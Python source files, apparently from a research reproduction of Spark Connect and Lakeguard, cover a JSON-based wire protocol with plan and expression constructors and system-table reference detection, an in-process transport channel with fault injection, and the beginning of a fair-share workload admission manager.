        return any(references_system_tables(v) for v in obj.values())
    if isinstance(obj, (list, tuple)):
        return any(references_system_tables(v) for v in obj)
    return isinstance(obj, str) and _SYSTEM_REF.search(obj) is not None


#: ``system.`` as a qualified-name head: either the whole string is a table
#: name (``system.access.x``) or it appears inside SQL text (``FROM
#: system.access.x``). The look-behind excludes longer identifiers
#: (``ecosystem.x``) and deeper qualifications (``cat.system.x``).
_SYSTEM_REF = re.compile(r"(?:^|[^\w.])system\.")


def plan_targets_system_tables(plan: dict[str, Any]) -> bool:
    """Does the plan read any ``system.*`` table — structurally when possible.

    The plan cache uses this to decide the caching bypass (system tables
    materialize at resolve time; caching would freeze their rows and their
    per-user admin gating). Classification matches the admission lane's:
    :func:`referenced_tables` resolves the actual table references, so a
    ``system.`` substring inside a string literal no longer defeats caching
    for a perfectly cacheable user query. Only when the plan resists
    structural resolution (``referenced_tables`` returns ``None``) does the
    over-broad :func:`references_system_tables` substring scan decide — the
    conservative direction for a cache bypass.
    """
    tables = referenced_tables(plan)
    if tables is not None:
        return any(t.startswith("system.") for t in tables)
    return references_system_tables(plan)


def referenced_tables(plan: dict[str, Any]) -> set[str] | None:
    """The table names a wire plan structurally references, or ``None``.

    Collects ``relation.read``/``command.write_table`` targets and parses
    SQL text (``relation.sql``/``command.sql``) into its AST to take the
    FROM/JOIN/INSERT table names — string *literals* are never inspected,
    so embedding a table name in data cannot forge a reference. Returns
    ``None`` whenever any part of the plan resists structural resolution
    (opaque extension payloads, raw ``expr.sql`` fragments, unparseable or
    non-query SQL): callers must treat ``None`` as "unknown", not "none".

    The workload manager's lane detection keys off this: only a plan whose
    references provably all land in ``system.*`` rides the always-admitted
    system lane.
    """
    tables: set[str] = set()
    return tables if _collect_tables(plan, tables) else None


def _collect_tables(obj: Any, out: set[str]) -> bool:
    """Walk a wire tree collecting table names; False = unresolvable."""
    if isinstance(obj, dict):
        mtype = obj.get("@type")
        if mtype in ("relation.read", "command.write_table"):
            name = obj.get("table")
            if not isinstance(name, str):
                return False
            out.add(name)
            return True
        if mtype in ("relation.sql", "command.sql"):
            text = obj.get("query") if mtype == "relation.sql" else obj.get("sql")
            return _collect_sql_tables(text, out)
        if mtype in ("relation.extension", "command.extension", "expr.sql"):
            return False
        return all(_collect_tables(v, out) for v in obj.values())
    if isinstance(obj, (list, tuple)):
        return all(_collect_tables(v, out) for v in obj)
    return True  # scalars — including string literals — reference nothing


def _collect_sql_tables(text: Any, out: set[str]) -> bool:
    if not isinstance(text, str):
        return False
    # Imported lazily: the SQL front-end sits above this wire module.
    from repro.errors import LakeguardError
    from repro.sql.parser import parse_statement

    try:
        statement = parse_statement(text)
    except LakeguardError:
        return False
    return _collect_statement_tables(statement, out)


def _collect_statement_tables(statement: Any, out: set[str]) -> bool:
    from repro.sql import ast_nodes as ast

    if isinstance(statement, ast.UnionStatement):
        return all(_collect_statement_tables(s, out) for s in statement.inputs)
    if isinstance(statement, ast.SelectStatement):
        sources = [j.source for j in statement.joins]
        if statement.source is not None:
            sources.append(statement.source)
        for source in sources:
            if isinstance(source, ast.TableSource):
                out.add(source.name)
            elif isinstance(source, ast.SubquerySource):
                if not _collect_statement_tables(source.query, out):
                    return False
            else:
                return False
        return True
    if isinstance(statement, ast.InsertStatement):
        out.add(statement.table)
        if statement.query_sql is not None:
            return _collect_sql_tables(statement.query_sql, out)
        return True
    if isinstance(statement, (ast.UpdateStatement, ast.DeleteStatement)):
        out.add(statement.table)
        return True
    if isinstance(statement, ast.MergeStatement):
        out.add(statement.target)
        out.add(statement.source)
        return True
    # DDL/DCL/introspection statements: not structurally resolvable here,
    # and never candidates for the system lane anyway.
    return False


def is_relation(plan: dict[str, Any]) -> bool:
    return message_type(plan).startswith("relation.")


# ---------------------------------------------------------------------------
# Relation constructors (shared by client and tests; the server only reads)
# ---------------------------------------------------------------------------


def read_table(name: str) -> dict[str, Any]:
    return {"@type": "relation.read", "table": name}


def sql_relation(query: str) -> dict[str, Any]:
    return {"@type": "relation.sql", "query": query}


def local_relation(schema: list[dict[str, str]], columns: list[list[Any]]) -> dict[str, Any]:
    return {"@type": "relation.local", "schema": schema, "columns": columns}


def range_relation(start: int, end: int, step: int = 1) -> dict[str, Any]:
    return {"@type": "relation.range", "start": start, "end": end, "step": step}


def project(input_rel: dict, expressions: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.project", "input": input_rel, "expressions": expressions}


def filter_relation(input_rel: dict, condition: dict) -> dict[str, Any]:
    return {"@type": "relation.filter", "input": input_rel, "condition": condition}


def join(left: dict, right: dict, how: str, condition: dict | None) -> dict[str, Any]:
    """Join relation; ``condition`` is None only for cross joins."""
    return {
        "@type": "relation.join",
        "left": left,
        "right": right,
        "how": how,
        "condition": condition,
    }


def aggregate(input_rel: dict, groupings: list[dict], aggregates: list[dict]) -> dict[str, Any]:
    return {
        "@type": "relation.aggregate",
        "input": input_rel,
        "groupings": groupings,
        "aggregates": aggregates,
    }


def sort(input_rel: dict, orders: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.sort", "input": input_rel, "orders": orders}


def limit(input_rel: dict, n: int, offset: int = 0) -> dict[str, Any]:
    return {"@type": "relation.limit", "input": input_rel, "limit": n, "offset": offset}


def distinct(input_rel: dict) -> dict[str, Any]:
    return {"@type": "relation.distinct", "input": input_rel}


def union(inputs: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.union", "inputs": inputs}


def subquery_alias(input_rel: dict, alias: str) -> dict[str, Any]:
    return {"@type": "relation.subquery_alias", "input": input_rel, "alias": alias}


def relation_extension(name: str, payload: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "relation.extension", "name": name, "payload": payload}


# ---------------------------------------------------------------------------
# Expression constructors
# ---------------------------------------------------------------------------


def literal(value: Any) -> dict[str, Any]:
    return {"@type": "expr.literal", "value": value}


def column(name: str) -> dict[str, Any]:
    return {"@type": "expr.column", "name": name}


def star(qualifier: str | None = None) -> dict[str, Any]:
    return {"@type": "expr.star", "qualifier": qualifier}


def alias(child: dict, name: str) -> dict[str, Any]:
    return {"@type": "expr.alias", "child": child, "name": name}


def binary(op: str, left: dict, right: dict) -> dict[str, Any]:
    return {"@type": "expr.binary", "op": op, "left": left, "right": right}


def not_(child: dict) -> dict[str, Any]:
    return {"@type": "expr.not", "child": child}


def isnull(child: dict, negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.isnull", "child": child, "negated": negated}


def in_list(child: dict, values: list[Any], negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.in", "child": child, "values": values, "negated": negated}


def like(child: dict, pattern: str, negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.like", "child": child, "pattern": pattern, "negated": negated}


def case_when(branches: list[tuple[dict, dict]], otherwise: dict | None) -> dict[str, Any]:
    return {
        "@type": "expr.case",
        "branches": [[c, v] for c, v in branches],
        "otherwise": otherwise,
    }


def cast(child: dict, to: str) -> dict[str, Any]:
    return {"@type": "expr.cast", "child": child, "to": to}


def func(name: str, args: list[dict]) -> dict[str, Any]:
    return {"@type": "expr.func", "name": name, "args": args}


def agg(name: str, child: dict | None, distinct_: bool = False) -> dict[str, Any]:
    return {"@type": "expr.agg", "name": name, "child": child, "distinct": distinct_}


def current_user() -> dict[str, Any]:
    return {"@type": "expr.current_user"}


def group_member(group: str) -> dict[str, Any]:
    return {"@type": "expr.group_member", "group": group}


def sql_expr(text: str) -> dict[str, Any]:
    return {"@type": "expr.sql", "text": text}


def python_udf(
    name: str,
    return_type: str,
    func_blob: bytes,
    args: list[dict],
    deterministic: bool = True,
) -> dict[str, Any]:
    """An *ephemeral* UDF: the client ships the pickled function itself."""
    return {
        "@type": "expr.python_udf",
        "name": name,
        "return_type": return_type,
        "func_blob": func_blob,
        "args": args,
        "deterministic": deterministic,
    }


def catalog_function(name: str, args: list[dict]) -> dict[str, Any]:
    """A call to a Unity-Catalog function, resolved and checked server-side."""
    return {"@type": "expr.catalog_function", "name": name, "args": args}


# ---------------------------------------------------------------------------
# Commands
# ---------------------------------------------------------------------------


def sql_command(sql: str) -> dict[str, Any]:
    return {"@type": "command.sql", "sql": sql}


def write_table_command(
    table: str, columns: dict[str, list[Any]], overwrite: bool = False
) -> dict[str, Any]:
    """Write local column data into a governed table (INSERT path)."""
    return {
        "@type": "command.write_table",
        "table": table,
        "columns": columns,
        "overwrite": overwrite,
    }


def create_temp_view_command(name: str, relation: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "command.create_temp_view", "name": name, "relation": relation}


def register_function_command(
    name: str, return_type: str, func_blob: bytes, deterministic: bool = True
) -> dict[str, Any]:
    """Register a session-temporary UDF so SQL text can call it by name."""
    return {
        "@type": "command.register_function",
        "name": name,
        "return_type": return_type,
        "func_blob": func_blob,
        "deterministic": deterministic,
    }


def command_extension(name: str, payload: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "command.extension", "name": name, "payload": payload}
