"""The Spark Connect wire format (protobuf stand-in).

Messages are dict trees with an ``@type`` discriminator, encoded to bytes as
JSON (binary values wrapped as ``{"@bytes": <base64>}``). Two protobuf
properties the paper's versionless story (§6.3) depends on are preserved:

- **forward compatibility** — decoders access known keys and ignore unknown
  ones, so an older server tolerates messages with newer optional fields;
- **version negotiation** — every request carries ``client_version``; a
  server accepts any client at or below its own ``PROTOCOL_VERSION``.

Extension points (§3.2.2): ``relation.extension`` / ``command.extension``
carry a namespaced name plus an opaque payload; servers dispatch them through
a registry, so plugins (e.g. a Delta extension) extend the protocol without
modifying it.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

from repro.errors import ProtocolError, VersionIncompatibleError

#: Current protocol version of this library build.
PROTOCOL_VERSION = 4

#: Oldest client version the server still understands.
MIN_SUPPORTED_CLIENT_VERSION = 1


# ---------------------------------------------------------------------------
# Byte-level encoding
# ---------------------------------------------------------------------------


def _encode_value(value: Any) -> Any:
    if isinstance(value, (bytes, bytearray)):
        return {"@bytes": base64.b64encode(bytes(value)).decode("ascii")}
    if isinstance(value, dict):
        return {k: _encode_value(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_encode_value(v) for v in value]
    return value


def _decode_value(value: Any) -> Any:
    if isinstance(value, dict):
        if set(value.keys()) == {"@bytes"}:
            return base64.b64decode(value["@bytes"])
        return {k: _decode_value(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_decode_value(v) for v in value]
    return value


def encode_message(message: dict[str, Any]) -> bytes:
    """Serialize a message tree to wire bytes."""
    try:
        return json.dumps(_encode_value(message)).encode("utf-8")
    except (TypeError, ValueError) as exc:
        raise ProtocolError(f"message is not wire-serializable: {exc}") from exc


def decode_message(data: bytes) -> dict[str, Any]:
    """Deserialize wire bytes into a message tree."""
    try:
        decoded = _decode_value(json.loads(data.decode("utf-8")))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ProtocolError(f"malformed wire message: {exc}") from exc
    if not isinstance(decoded, dict):
        raise ProtocolError("wire message must be an object")
    return decoded


def check_client_version(client_version: int, server_version: int = PROTOCOL_VERSION) -> None:
    """Enforce backward (not forward) compatibility."""
    if client_version > server_version:
        raise VersionIncompatibleError(
            f"client protocol version {client_version} is newer than the "
            f"server's {server_version}"
        )
    if client_version < MIN_SUPPORTED_CLIENT_VERSION:
        raise VersionIncompatibleError(
            f"client protocol version {client_version} is no longer supported "
            f"(minimum {MIN_SUPPORTED_CLIENT_VERSION})"
        )


def message_type(message: dict[str, Any]) -> str:
    try:
        return message["@type"]
    except (KeyError, TypeError):
        raise ProtocolError(f"message lacks '@type': {message!r}") from None


def is_command(plan: dict[str, Any]) -> bool:
    return message_type(plan).startswith("command.")


def references_system_tables(obj: Any) -> bool:
    """True if a wire relation mentions any ``system.*`` table.

    Used by the plan cache (system tables materialize at resolve time, so
    cached secure plans would freeze them) and by the workload manager's
    admission lane detection (``system.*`` introspection reads ride the
    always-admitted system lane).
    """
    if isinstance(obj, dict):
        return any(references_system_tables(v) for v in obj.values())
    if isinstance(obj, (list, tuple)):
        return any(references_system_tables(v) for v in obj)
    return isinstance(obj, str) and _SYSTEM_REF.search(obj) is not None


#: ``system.`` as a qualified-name head: either the whole string is a table
#: name (``system.access.x``) or it appears inside SQL text (``FROM
#: system.access.x``). The look-behind excludes longer identifiers
#: (``ecosystem.x``) and deeper qualifications (``cat.system.x``).
_SYSTEM_REF = re.compile(r"(?:^|[^\w.])system\.")


def is_relation(plan: dict[str, Any]) -> bool:
    return message_type(plan).startswith("relation.")


# ---------------------------------------------------------------------------
# Relation constructors (shared by client and tests; the server only reads)
# ---------------------------------------------------------------------------


def read_table(name: str) -> dict[str, Any]:
    return {"@type": "relation.read", "table": name}


def sql_relation(query: str) -> dict[str, Any]:
    return {"@type": "relation.sql", "query": query}


def local_relation(schema: list[dict[str, str]], columns: list[list[Any]]) -> dict[str, Any]:
    return {"@type": "relation.local", "schema": schema, "columns": columns}


def range_relation(start: int, end: int, step: int = 1) -> dict[str, Any]:
    return {"@type": "relation.range", "start": start, "end": end, "step": step}


def project(input_rel: dict, expressions: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.project", "input": input_rel, "expressions": expressions}


def filter_relation(input_rel: dict, condition: dict) -> dict[str, Any]:
    return {"@type": "relation.filter", "input": input_rel, "condition": condition}


def join(left: dict, right: dict, how: str, condition: dict | None) -> dict[str, Any]:
    """Join relation; ``condition`` is None only for cross joins."""
    return {
        "@type": "relation.join",
        "left": left,
        "right": right,
        "how": how,
        "condition": condition,
    }


def aggregate(input_rel: dict, groupings: list[dict], aggregates: list[dict]) -> dict[str, Any]:
    return {
        "@type": "relation.aggregate",
        "input": input_rel,
        "groupings": groupings,
        "aggregates": aggregates,
    }


def sort(input_rel: dict, orders: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.sort", "input": input_rel, "orders": orders}


def limit(input_rel: dict, n: int, offset: int = 0) -> dict[str, Any]:
    return {"@type": "relation.limit", "input": input_rel, "limit": n, "offset": offset}


def distinct(input_rel: dict) -> dict[str, Any]:
    return {"@type": "relation.distinct", "input": input_rel}


def union(inputs: list[dict]) -> dict[str, Any]:
    return {"@type": "relation.union", "inputs": inputs}


def subquery_alias(input_rel: dict, alias: str) -> dict[str, Any]:
    return {"@type": "relation.subquery_alias", "input": input_rel, "alias": alias}


def relation_extension(name: str, payload: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "relation.extension", "name": name, "payload": payload}


# ---------------------------------------------------------------------------
# Expression constructors
# ---------------------------------------------------------------------------


def literal(value: Any) -> dict[str, Any]:
    return {"@type": "expr.literal", "value": value}


def column(name: str) -> dict[str, Any]:
    return {"@type": "expr.column", "name": name}


def star(qualifier: str | None = None) -> dict[str, Any]:
    return {"@type": "expr.star", "qualifier": qualifier}


def alias(child: dict, name: str) -> dict[str, Any]:
    return {"@type": "expr.alias", "child": child, "name": name}


def binary(op: str, left: dict, right: dict) -> dict[str, Any]:
    return {"@type": "expr.binary", "op": op, "left": left, "right": right}


def not_(child: dict) -> dict[str, Any]:
    return {"@type": "expr.not", "child": child}


def isnull(child: dict, negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.isnull", "child": child, "negated": negated}


def in_list(child: dict, values: list[Any], negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.in", "child": child, "values": values, "negated": negated}


def like(child: dict, pattern: str, negated: bool = False) -> dict[str, Any]:
    return {"@type": "expr.like", "child": child, "pattern": pattern, "negated": negated}


def case_when(branches: list[tuple[dict, dict]], otherwise: dict | None) -> dict[str, Any]:
    return {
        "@type": "expr.case",
        "branches": [[c, v] for c, v in branches],
        "otherwise": otherwise,
    }


def cast(child: dict, to: str) -> dict[str, Any]:
    return {"@type": "expr.cast", "child": child, "to": to}


def func(name: str, args: list[dict]) -> dict[str, Any]:
    return {"@type": "expr.func", "name": name, "args": args}


def agg(name: str, child: dict | None, distinct_: bool = False) -> dict[str, Any]:
    return {"@type": "expr.agg", "name": name, "child": child, "distinct": distinct_}


def current_user() -> dict[str, Any]:
    return {"@type": "expr.current_user"}


def group_member(group: str) -> dict[str, Any]:
    return {"@type": "expr.group_member", "group": group}


def sql_expr(text: str) -> dict[str, Any]:
    return {"@type": "expr.sql", "text": text}


def python_udf(
    name: str,
    return_type: str,
    func_blob: bytes,
    args: list[dict],
    deterministic: bool = True,
) -> dict[str, Any]:
    """An *ephemeral* UDF: the client ships the pickled function itself."""
    return {
        "@type": "expr.python_udf",
        "name": name,
        "return_type": return_type,
        "func_blob": func_blob,
        "args": args,
        "deterministic": deterministic,
    }


def catalog_function(name: str, args: list[dict]) -> dict[str, Any]:
    """A call to a Unity-Catalog function, resolved and checked server-side."""
    return {"@type": "expr.catalog_function", "name": name, "args": args}


# ---------------------------------------------------------------------------
# Commands
# ---------------------------------------------------------------------------


def sql_command(sql: str) -> dict[str, Any]:
    return {"@type": "command.sql", "sql": sql}


def write_table_command(
    table: str, columns: dict[str, list[Any]], overwrite: bool = False
) -> dict[str, Any]:
    """Write local column data into a governed table (INSERT path)."""
    return {
        "@type": "command.write_table",
        "table": table,
        "columns": columns,
        "overwrite": overwrite,
    }


def create_temp_view_command(name: str, relation: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "command.create_temp_view", "name": name, "relation": relation}


def register_function_command(
    name: str, return_type: str, func_blob: bytes, deterministic: bool = True
) -> dict[str, Any]:
    """Register a session-temporary UDF so SQL text can call it by name."""
    return {
        "@type": "command.register_function",
        "name": name,
        "return_type": return_type,
        "func_blob": func_blob,
        "deterministic": deterministic,
    }


def command_extension(name: str, payload: dict[str, Any]) -> dict[str, Any]:
    return {"@type": "command.extension", "name": name, "payload": payload}
