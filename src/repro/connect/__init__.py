"""Spark Connect (§3.2): client / protocol / service, decoupled.

- :mod:`repro.connect.proto` — the wire format: versioned, forward-compatible
  message trees for relations, expressions and commands, with extension
  points (the protobuf stand-in).
- :mod:`repro.connect.channel` — the transport: an in-process gRPC-like
  channel that round-trips every message through encoded bytes, with fault
  injection for reattach testing.
- :mod:`repro.connect.sessions` — server-side session and operation
  lifecycle: per-user state, idle eviction, reattach, tombstoning.
- :mod:`repro.connect.service` — the Spark Connect service: ExecutePlan /
  AnalyzePlan / ReattachExecute / ReleaseExecute / Interrupt.
- :mod:`repro.connect.client` — the DataFrame client: builds *unresolved
  plans* as protocol messages; it has no dependency on the engine.
"""

from repro.connect.proto import PROTOCOL_VERSION
from repro.connect.channel import InProcessChannel, LatencyModel
from repro.connect.client import SparkConnectClient
from repro.connect.service import SparkConnectService, ExecutionBackend
from repro.connect.sessions import SessionManager

__all__ = [
    "PROTOCOL_VERSION",
    "InProcessChannel",
    "LatencyModel",
    "SparkConnectClient",
    "SparkConnectService",
    "ExecutionBackend",
    "SessionManager",
]
