"""The transport: an in-process gRPC-like channel.

Every request and every streamed response is round-tripped through
:func:`~repro.connect.proto.encode_message` /
:func:`~repro.connect.proto.decode_message`, so client and server only ever
exchange wire bytes — exactly the coupling surface of the real protocol.

Fault injection simulates what HTTP/2 load balancers do to long streams
(§3.2.2): connections are cut after N stream items, and the client must
recover via ReattachExecute.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterator, Protocol

from repro.common.clock import Clock, SystemClock
from repro.connect import proto
from repro.errors import TransportError


@dataclass
class LatencyModel:
    """Charged against the channel's clock per message (for Fig. 5 studies)."""

    request_seconds: float = 0.0
    per_response_seconds: float = 0.0
    #: Extra cost per KiB of payload in either direction.
    per_kib_seconds: float = 0.0

    def request_cost(self, num_bytes: int) -> float:
        return self.request_seconds + self.per_kib_seconds * num_bytes / 1024.0

    def response_cost(self, num_bytes: int) -> float:
        return self.per_response_seconds + self.per_kib_seconds * num_bytes / 1024.0


@dataclass
class FaultInjector:
    """Cuts connections to exercise the reattach path (legacy scheduler).

    The channel also accepts the systemwide chaos engine
    (:class:`repro.common.faults.FaultInjector`) in its place: anything with
    a ``check(point)`` method is consulted at the ``channel.stream`` fault
    point before each streamed item, so one seeded schedule can cut
    connections alongside storage and sandbox faults.
    """

    #: Drop the stream after this many items (-1 = never).
    drop_stream_after: int = -1
    #: How many times to drop before letting streams complete.
    times: int = 0

    def should_drop(self, items_sent: int) -> bool:
        if self.times <= 0 or self.drop_stream_after < 0:
            return False
        if items_sent >= self.drop_stream_after:
            self.times -= 1
            return True
        return False


class Channel(Protocol):
    """Client-side view of the transport."""

    def call(self, method: str, request: dict[str, Any]) -> dict[str, Any]: ...

    def call_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]: ...


@dataclass
class ChannelStats:
    """Wire-level traffic counters for one in-process channel."""

    requests: int = 0
    responses: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0
    connections_dropped: int = 0


class InProcessChannel:
    """Connects a client to a service object living in the same process."""

    def __init__(
        self,
        service: "ServiceLike",
        clock: Clock | None = None,
        latency: LatencyModel | None = None,
        faults: Any = None,
    ):
        self._service = service
        self._clock = clock or SystemClock()
        self._latency = latency or LatencyModel()
        self._faults = faults or FaultInjector()
        self.stats = ChannelStats()

    def _should_drop(self, items_sent: int) -> bool:
        """Consult whichever fault source the channel was built with."""
        should_drop = getattr(self._faults, "should_drop", None)
        if should_drop is not None:
            return bool(should_drop(items_sent))
        # Systemwide chaos engine: one seeded ``channel.stream`` point.
        return bool(self._faults.check("channel.stream").triggered)

    def _send(self, request: dict[str, Any]) -> dict[str, Any]:
        wire = proto.encode_message(request)
        self.stats.requests += 1
        self.stats.bytes_sent += len(wire)
        self._clock.sleep(self._latency.request_cost(len(wire)))
        return proto.decode_message(wire)

    def _receive(self, response: dict[str, Any]) -> dict[str, Any]:
        wire = proto.encode_message(response)
        self.stats.responses += 1
        self.stats.bytes_received += len(wire)
        self._clock.sleep(self._latency.response_cost(len(wire)))
        return proto.decode_message(wire)

    def call(self, method: str, request: dict[str, Any]) -> dict[str, Any]:
        decoded = self._send(request)
        response = self._service.handle(method, decoded)
        return self._receive(response)

    def call_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]:
        """Streaming RPC; may raise TransportError mid-stream (reattach!)."""
        decoded = self._send(request)
        items_sent = 0
        for response in self._service.handle_stream(method, decoded):
            if self._should_drop(items_sent):
                self.stats.connections_dropped += 1
                raise TransportError(
                    f"connection reset after {items_sent} stream items"
                )
            items_sent += 1
            yield self._receive(response)


class ServiceLike(Protocol):
    """What a channel needs from the server side."""

    def handle(self, method: str, request: dict[str, Any]) -> dict[str, Any]: ...

    def handle_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]: ...
