"""The multi-tenant WorkloadManager: fair-share admission control.

Lakeguard's premise is *shared* multi-user compute — permissions are
user-bound and sandboxes isolate user code — but isolation of *capacity* is
a governance concern of its own: one noisy tenant must not starve every
other session on the cluster. Every query therefore passes through this
manager before it executes:

- **Weighted fair-share queues** (stride scheduling): each tenant — a user,
  or a trust domain on shared compute — owns a bounded FIFO queue; dispatch
  picks the eligible tenant with the smallest virtual *pass* value, which
  converges to proportional-share service no matter how greedy any single
  tenant is.
- **Token-bucket rate limiting**: per-tenant request rates; a drained bucket
  rejects up front with a retryable :class:`~repro.errors.AdmissionError`
  carrying ``retry_after``.
- **Concurrency slots**: a fixed pool bounds how many admitted queries
  execute at once; sandbox claims made by the Dispatcher count against the
  owning tenant's in-flight budget too.
- **Deadline-aware admission**: if the estimated queue wait already exceeds
  the query's deadline, the query is rejected immediately instead of
  timing out after burning a queue slot.
- **Load shedding with graceful degradation**: under saturation the lowest
  priority lane is shed first, and ``system.*`` introspection reads bypass
  admission entirely so operators can always look at a struggling cluster.

A ``fair_share=False`` manager degrades to a single global FIFO queue over
the same slot pool — the baseline the fairness benchmark measures against.
"""

from __future__ import annotations

import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any, Iterator

from repro.common.clock import Clock, SystemClock
from repro.common.context import QueryContext, QueryDeadlineExceeded
from repro.common.telemetry import Telemetry
from repro.errors import AdmissionError

#: Admission lanes, by descending priority. ``system`` is reserved for
#: ``system.*`` introspection reads and bypasses admission control.
LANE_SYSTEM = "system"
LANE_INTERACTIVE = "interactive"
LANE_BATCH = "batch"

#: Lane -> shed priority (higher number = shed earlier).
LANE_PRIORITY = {LANE_SYSTEM: 0, LANE_INTERACTIVE: 1, LANE_BATCH: 2}

#: Stride-scheduling numerator: pass advances by STRIDE_ONE / weight.
STRIDE_ONE = 1 << 20

#: Ticket lifecycle states.
TICKET_QUEUED = "QUEUED"
TICKET_ADMITTED = "ADMITTED"
TICKET_RELEASED = "RELEASED"
TICKET_SHED = "SHED"
TICKET_CANCELLED = "CANCELLED"


@dataclass
class TenantPolicy:
    """Per-tenant budgets; unset fields fall back to manager defaults."""

    weight: float = 1.0
    #: Queries a tenant may keep waiting before backpressure kicks in.
    max_queue_depth: int = 64
    #: Token-bucket rate (requests/second); None = unlimited.
    rate_per_second: float | None = None
    #: Token-bucket capacity (burst size).
    burst: int = 8
    #: Cap on concurrent in-flight work (running queries + sandbox claims);
    #: None = bounded only by the shared slot pool.
    max_in_flight: int | None = None


@dataclass
class _TenantState:
    """Live accounting for one tenant (mutated under the manager lock)."""

    name: str
    policy: TenantPolicy
    queue: list["AdmissionTicket"] = field(default_factory=list)
    #: Stride-scheduling virtual time; smallest eligible pass runs next.
    pass_value: float = 0.0
    in_use: int = 0
    #: Sandboxes the Dispatcher charged to this tenant (count against
    #: ``max_in_flight`` so sandbox hoarding shrinks query concurrency).
    sandbox_claims: int = 0
    tokens: float = 0.0
    tokens_refilled_at: float = 0.0
    admitted: int = 0
    shed: int = 0
    rejected: int = 0
    queue_wait_seconds_total: float = 0.0

    @property
    def stride(self) -> float:
        """Virtual-time increment charged per dispatched query."""
        return STRIDE_ONE / max(self.policy.weight, 1e-9)

    @property
    def in_flight(self) -> int:
        """Budget-relevant concurrency: running queries + sandbox claims."""
        return self.in_use + self.sandbox_claims

    def over_budget(self) -> bool:
        """True when ``max_in_flight`` forbids dispatching another query."""
        limit = self.policy.max_in_flight
        return limit is not None and self.in_flight >= limit


@dataclass
class AdmissionTicket:
    """One query's passage through admission: queue -> slot -> release."""

    tenant: str
    lane: str
    user: str
    manager: "WorkloadManager"
    state: str = TICKET_QUEUED
    #: System-lane tickets are admitted without claiming a slot.
    slotless: bool = False
    enqueued_at: float = 0.0
    admitted_at: float | None = None
    exec_started_at: float | None = None
    released_at: float | None = None
    #: Why the ticket left the queue without being admitted (shed/cancel).
    failure: AdmissionError | None = None

    @property
    def queue_wait(self) -> float:
        """Seconds spent queued before admission (0 for fast-path admits)."""
        if self.admitted_at is None:
            return 0.0
        return max(0.0, self.admitted_at - self.enqueued_at)

    def release(self) -> None:
        """Return the slot (idempotent; safe on never-admitted tickets)."""
        self.manager.release(self)

    def cancel(self) -> bool:
        """Dequeue a still-queued ticket (interrupt path); True if it was."""
        return self.manager.cancel(self)


class WorkloadManager:
    """Admission control + fair-share scheduling for one compute resource.

    Thread-safe: many Connect operations admit concurrently; dispatch order
    is decided under one lock by stride scheduling (or arrival order when
    ``fair_share=False``).
    """

    def __init__(
        self,
        name: str = "cluster",
        clock: Clock | None = None,
        telemetry: Telemetry | None = None,
        total_slots: int = 16,
        fair_share: bool = True,
        max_total_queue: int = 256,
        admission_timeout: float = 30.0,
        default_policy: TenantPolicy | None = None,
        expected_service_seconds: float = 0.0,
    ):
        self.name = name
        self._clock = clock or SystemClock()
        self._telemetry = telemetry or Telemetry(clock=self._clock)
        self.total_slots = max(1, total_slots)
        self.fair_share = fair_share
        self.max_total_queue = max(1, max_total_queue)
        self.admission_timeout = admission_timeout
        self._default_policy = default_policy or TenantPolicy()
        #: EWMA of observed service times; seeds the queue-wait estimate.
        self._avg_service_seconds = max(0.0, expected_service_seconds)
        self._lock = threading.Lock()
        self._ready = threading.Condition(self._lock)
        self._tenants: dict[str, _TenantState] = {}
        #: Arrival-order queue used when ``fair_share`` is off (FIFO mode).
        self._fifo: list[AdmissionTicket] = []
        self._slots_in_use = 0
        self._queued_total = 0
        # Aggregate counters (also mirrored into telemetry).
        self.admitted_total = 0
        self.shed_total = 0
        self.rejected_rate_limited = 0
        self.rejected_deadline = 0
        self.rejected_queue_full = 0
        self.timeouts = 0
        self.cancelled_total = 0
        self.system_bypass = 0
        self.lane_shed: dict[str, int] = {}

    # ------------------------------------------------------------------
    # Tenant configuration
    # ------------------------------------------------------------------

    def configure_tenant(self, tenant: str, policy: TenantPolicy) -> None:
        """Install (or replace) one tenant's budgets."""
        with self._lock:
            state = self._tenant_locked(tenant)
            state.policy = policy
            state.tokens = float(policy.burst)
            state.tokens_refilled_at = self._clock.now()

    def _tenant_locked(self, tenant: str) -> _TenantState:
        state = self._tenants.get(tenant)
        if state is None:
            policy = TenantPolicy(
                weight=self._default_policy.weight,
                max_queue_depth=self._default_policy.max_queue_depth,
                rate_per_second=self._default_policy.rate_per_second,
                burst=self._default_policy.burst,
                max_in_flight=self._default_policy.max_in_flight,
            )
            state = _TenantState(name=tenant, policy=policy)
            state.tokens = float(policy.burst)
            state.tokens_refilled_at = self._clock.now()
            # A newcomer starts at the current virtual time so it neither
            # monopolizes (pass too low) nor starves (pass too high).
            state.pass_value = self._global_pass_locked()
            self._tenants[tenant] = state
        return state

    def _global_pass_locked(self) -> float:
        active = [
            t.pass_value
            for t in self._tenants.values()
            if t.queue or t.in_use > 0
        ]
        return min(active) if active else 0.0

    # ------------------------------------------------------------------
    # Admission
    # ------------------------------------------------------------------

    def admit(
        self,
        user: str,
        lane: str = LANE_INTERACTIVE,
        tenant: str | None = None,
        query_ctx: QueryContext | None = None,
        on_enqueued: Any = None,
    ) -> AdmissionTicket:
        """Admit one query, blocking in the fair-share queue if needed.

        ``on_enqueued(ticket)`` fires (under the manager lock) the moment
